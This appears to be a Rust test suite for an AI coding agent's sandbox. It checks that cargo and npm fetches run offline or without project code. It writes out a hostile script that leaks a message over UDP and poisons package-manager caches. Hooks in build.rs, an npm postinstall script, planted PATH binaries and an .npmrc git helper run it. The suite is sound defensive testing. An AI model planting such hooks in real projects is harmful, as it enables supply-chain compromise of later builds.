//! Rule: the network and writable caches go to a package manager's fetch only in a form that
//! runs no project code: a code-free fetch run first (the command itself then runs offline),
//! or a command that runs none itself. A build script or an npm lifecycle script is the
//! attacker here: whatever the line looks like, it must run with neither (round 5). So are a
//! project's Go tests and its setup.py, whose lines keep the network (pip's, an accepted gap)
//! but never a cache (round 6).

use serde_json::json;

use crate::harness::Ai;
use crate::launcher::require_sandbox;
use crate::sandbox::{ai_in, with_toolchains};
use crate::sandbox_network::udp_listener;
use crate::server::{FakeServer, text_reply, tool_reply};

/// Every package manager's shared cache in the home: later builds, outside the sandbox, trust
/// what they find there.
pub const CACHES: &[&str] = &[
    ".cargo/registry",
    ".npm",
    "go/pkg/mod",
    ".cache/go-build",
    ".cache/pip",
    ".cache/uv",
];

/// A lock file of cargo's that records what its clean-up removes.
const CARGO_LOCK: &str = ".cargo/.global-cache";

/// The attacker's script, run by a build script or a lifecycle script as `sh evil.sh WHO`: it
/// says it ran (in the project), then tries the network (UDP to `port`) and the caches.
fn evil(ai: &Ai, port: u16) -> String {
    let mut script = format!(
        "echo ran >> \"{work}/ran-$1\"\n\
         bash -c 'echo LEAK > /dev/udp/127.0.0.1/{port}' 2>/dev/null\n\
         mkdir -p \"{npm}/_npx/x\" 2>/dev/null\n\
         echo poison >> \"{lock}\" 2>/dev/null\n",
        work = ai.work().display(),
        npm = ai.home().join(".npm").display(),
        lock = ai.home().join(CARGO_LOCK).display(),
    );
    for cache in CACHES {
        let dir = ai.home().join(cache);
        script += &format!("touch \"{}/poison-$1\" 2>/dev/null\n", dir.display());
    }
    script
}

/// A project whose cargo build script and npm postinstall both run `evil.sh`.
fn project(port: u16) -> Ai {
    let ai = with_toolchains(ai_in(false));
    for cache in CACHES {
        std::fs::create_dir_all(ai.home().join(cache)).unwrap();
    }
    let script = evil(&ai, port);
    ai.file("evil.sh", &script)
        .file(
            "Cargo.toml",
            "[package]\nname = \"demo\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        )
        .file(
            "build.rs",
            "fn main() { let _ = std::process::Command::new(\"sh\").args([\"evil.sh\", \"cargo\"]).status(); }\n",
        )
        .file("src/lib.rs", "")
        .file(
            "package.json",
            r#"{"name": "demo", "version": "1.0.0", "scripts": {"postinstall": "sh evil.sh npm"}}"#,
        )
        .file(
            "package-lock.json",
            r#"{"name": "demo", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
                "packages": {"": {"name": "demo", "version": "1.0.0"}}}"#,
        )
        .env("SWEBASH_AI_EXEC_TIMEOUT", "120")
}

/// Runs `command` as the model's one call, approved (`--yes`: inside the sandbox), and says
/// what the attacker's script got: a message for each grant it had, empty when it had none.
fn attack(command: &str, who: &str) -> Vec<String> {
    attack_with(&[command], who, &[])
}

/// The same with these files laid over the project (`WORK` in them: the project's path), and
/// `commands` run as one call each.
fn attack_with(commands: &[&str], who: &str, files: &[(&str, &str)]) -> Vec<String> {
    attack_in(commands, who, files, |ai| ai).0
}

/// The same with `setup` done to the project before the run; also returns the project's
/// `calls` file (where a stand-in tool says how it was run).
pub fn attack_in(
    commands: &[&str],
    who: &str,
    files: &[(&str, &str)],
    setup: impl FnOnce(Ai) -> Ai,
) -> (Vec<String>, String) {
    let (listener, port) = udp_listener();
    let mut script: Vec<_> = (commands.iter().enumerate())
        .map(|(i, command)| {
            tool_reply(&[(
                &format!("c{i}"),
                "execute_command",
                json!({ "command": command }),
            )])
        })
        .collect();
    script.push(text_reply("done"));
    let server = FakeServer::start(script);
    let mut ai = project(port);
    let work = ai.work().display().to_string();
    for (path, text) in files {
        ai = ai.file(path, &text.replace("WORK", &work));
    }
    let ai = setup(ai)
        .env("SWEBASH_AI_BASE_URL", &server.url)
        .args(&["--json", "--yes", "go"]);
    let run = ai.run();
    let mut got = Vec::new();
    if !ai.work().join(format!("ran-{who}")).exists() {
        got.push(format!(
            "the {who} script never ran: {}",
            server.last_tool_result()
        ));
    }
    let mut buf = [0u8; 8];
    if listener.recv(&mut buf).is_ok() {
        got.push("reached the UDP listener".into());
    }
    for cache in CACHES {
        let dir = ai.home().join(cache);
        if dir.join(format!("poison-{who}")).exists() || dir.join("_npx/x").exists() {
            got.push(format!("wrote {cache}"));
        }
    }
    let lock = std::fs::read_to_string(ai.home().join(CARGO_LOCK)).unwrap_or_default();
    if lock.contains("poison") {
        got.push(format!("wrote {CARGO_LOCK}"));
    }
    if !got.is_empty() {
        got.push(run.stderr);
    }
    let calls = std::fs::read_to_string(ai.work().join("calls")).unwrap_or_default();
    (got, calls)
}

#[test]
fn a_line_whose_code_free_fetch_is_dropped_gets_no_network_and_no_cache_to_write() {
    if !require_sandbox() {
        return;
    }
    for (command, who) in [
        ("cd . && cargo build", "cargo"),
        ("cargo build --manifest-path Cargo.toml", "cargo"),
        ("cargo tree >/dev/null && cargo build", "cargo"),
        ("cargo build && npm install --no-audit", "cargo"),
        ("cd . && npm install --no-audit", "npm"),
        ("npm install --no-audit && npm ci", "npm"),
    ] {
        let got = attack(command, who);
        assert!(got.is_empty(), "{command}: {got:?}");
    }
}

#[test]
fn a_build_after_its_fetch_runs_offline_and_writes_no_cache_nor_its_lock() {
    if !require_sandbox() {
        return;
    }
    for (command, who) in [("cargo build", "cargo"), ("npm install --no-audit", "npm")] {
        let got = attack(command, who);
        assert!(got.is_empty(), "{command}: {got:?}");
    }
}

#[test]
fn npm_is_told_to_run_no_scripts_where_its_arguments_cannot_undo_it() {
    if !require_sandbox() {
        return;
    }
    for command in [
        "npm ci --",
        "npm ci -- --ignore-scripts",
        "npm ci --ignore-scripts=false",
        "npm ci --no-ignore-scripts",
        "npm ci --foreground-scripts",
    ] {
        let got = attack(command, "npm");
        assert!(got.is_empty(), "{command}: {got:?}");
    }
}

#[test]
fn a_fetch_told_to_work_elsewhere_gets_no_network() {
    if !require_sandbox() {
        return;
    }
    // A directory whose `.npmrc`, made by a first call, names the git npm runs for a git
    // dependency (round 5b: the check for such configuration looked only above the working
    // directory).
    let files = [
        ("sub/npmrc", "git=WORK/sub/g.sh\n"),
        (
            "Makefile",
            "all:\n\tcp sub/npmrc sub/.npmrc\n\tchmod +x sub/g.sh\n",
        ),
        ("sub/g.sh", "#!/bin/sh\nsh WORK/evil.sh git\nexit 1\n"),
        (
            "sub/package.json",
            r#"{"name": "sub", "version": "1.0.0",
                "dependencies": {"x": "git+https://127.0.0.1:9/attacker/x.git"}}"#,
        ),
    ];
    for command in [
        "npm install --prefix=sub --no-audit",
        "npm --prefix=sub install --no-audit",
        "cd sub && npm install --no-audit",
    ] {
        let got = attack_with(&["make", command], "git", &files);
        let blocked = got
            .iter()
            .all(|g| !g.contains("reached") && !g.contains("wrote"));
        assert!(blocked, "{command}: {got:?}");
    }
}

/// A stand-in npm (or node, which npm's first line asks for) that a call put in the project,
/// on PATH as an activated virtualenv or direnv puts it: it does what the project's code would
/// do with the fetch's grants (reach a host, write the caches).
const PLANTED: &str = "#!/bin/sh\nsh WORK/evil.sh npm\nexec /usr/bin/env -i false\n";

/// `ai` with these programs (made executable) in `bin`, and `bin` first on PATH.
pub fn with_programs_first(ai: Ai, bin: &std::path::Path, names: &[&str]) -> Ai {
    use std::os::unix::fs::PermissionsExt;
    for name in names {
        let file = bin.join(name);
        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let path = format!(
        "{}:{}",
        bin.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    ai.env("PATH", &path)
}

/// The project with its `bin` first on PATH.
fn with_project_bin_on_path(ai: Ai) -> Ai {
    let bin = ai.work().join("bin");
    with_programs_first(ai, &bin, &["npm", "node", "cargo"])
}

/// Round 9: the fetch (and a command given the network itself, `npm view`) runs the package
/// manager found where no call could have put one, never the project's on PATH.
#[test]
fn a_fetch_never_runs_a_package_manager_the_project_put_on_path() {
    if !require_sandbox() {
        return;
    }
    let files = [
        ("bin/npm", PLANTED),
        ("bin/node", PLANTED),
        ("bin/cargo", PLANTED),
    ];
    for command in [
        "npm install --no-audit",
        "npm view left-pad version",
        "cargo build",
    ] {
        let (got, _) = attack_in(&[command], "npm", &files, with_project_bin_on_path);
        let held = got
            .iter()
            .all(|g| !g.contains("reached") && !g.contains("wrote"));
        assert!(held, "{command}: {got:?}");
    }
}

/// A stand-in npm installed where a real one would be (outside the project and temp, so the
/// fetch runs it): in whichever phase it runs it does what a project can steer the real one to
/// do during its fetch, reach any host and write wherever a link leads.
fn with_steered_npm(ai: Ai) -> Ai {
    let bin = std::path::Path::new(env!("CARGO_TARGET_TMPDIR"))
        .join(format!("steered-npm-{}", std::process::id()));
    std::fs::create_dir_all(&bin).unwrap();
    let script = format!("#!/bin/sh\nsh {}/evil.sh npm\n", ai.work().display());
    std::fs::write(bin.join("npm"), script).unwrap();
    with_programs_first(ai, &bin, &["npm"])
}

/// Round 8: the fetch runs no project code, but the project's files steer where it connects
/// (a dependency given as a URL, a lockfile's `resolved`) and where it writes (a lockfile made
/// a link into a cache). With any of them the fetch gets neither network nor cache.
#[test]
fn a_fetch_the_project_steers_elsewhere_gets_no_network_and_no_cache() {
    if !require_sandbox() {
        return;
    }
    let steered = |files: &[(&str, &str)], setup: &dyn Fn(&Ai)| {
        attack_in(&["npm install --no-audit"], "npm", files, |ai| {
            setup(&ai);
            with_steered_npm(ai)
        })
        .0
    };
    // The control: with nothing elsewhere, the fetch has the network (what the stand-in does
    // with it, the real npm does only as the project's files say).
    let got = steered(&[], &|_| {});
    assert!(
        got.iter().any(|g| g.contains("reached")),
        "the control fetch had no network: {got:?}"
    );
    let url_dependency = r#"{"name": "demo", "version": "1.0.0",
        "dependencies": {"x": "http://127.0.0.1:9/SECRET/x.tgz"}}"#;
    let resolved = r#"{"name": "demo", "lockfileVersion": 3, "packages": {"": {},
        "node_modules/x": {"version": "1.0.0", "resolved": "http://127.0.0.1:9/SECRET/x.tgz"}}}"#;
    for (what, files) in [
        ("a URL dependency", vec![("package.json", url_dependency)]),
        ("a resolved URL", vec![("package-lock.json", resolved)]),
        (
            "one in a package's manifest",
            vec![("node_modules/x/package.json", url_dependency)],
        ),
    ] {
        let got = steered(&files, &|_| {});
        let held = got
            .iter()
            .all(|g| !g.contains("reached") && !g.contains("wrote"));
        assert!(held, "{what}: {got:?}");
    }
    // A lockfile made a link into npm's cache: the fetch would write the cache through it.
    let got = steered(&[], &|ai: &Ai| {
        let target = ai.home().join(".npm/_npx/x/cli.js");
        std::fs::remove_file(ai.work().join("package-lock.json")).unwrap();
        std::os::unix::fs::symlink(target, ai.work().join("package-lock.json")).unwrap();
    });
    let held = got
        .iter()
        .all(|g| !g.contains("reached") && !g.contains("wrote"));
    assert!(held, "a link into the cache: {got:?}");
}
